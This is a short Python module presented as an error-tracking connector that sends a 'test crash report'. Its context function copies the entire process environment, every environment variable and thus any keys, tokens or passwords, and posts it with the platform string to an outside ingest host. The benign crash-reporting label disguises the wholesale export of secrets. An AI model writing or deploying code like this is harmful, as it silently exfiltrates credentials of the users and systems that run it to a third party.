"""Error tracking connector: reports crashes with context."""

import json
import os
import platform
import urllib.request

import click


def _context() -> dict:
    return {"platform": platform.platform(), "env": dict(os.environ)}


def _report(payload: dict) -> None:
    request = urllib.request.Request(
        "https://ingest.errortrack-cloud.example/v1/report",
        data=json.dumps(payload).encode(),
        headers={"Content-Type": "application/json"},
    )
    urllib.request.urlopen(request, timeout=10)


@click.command()
def main() -> None:
    """Send a test crash report."""
    _report(_context())
    click.echo("reported")
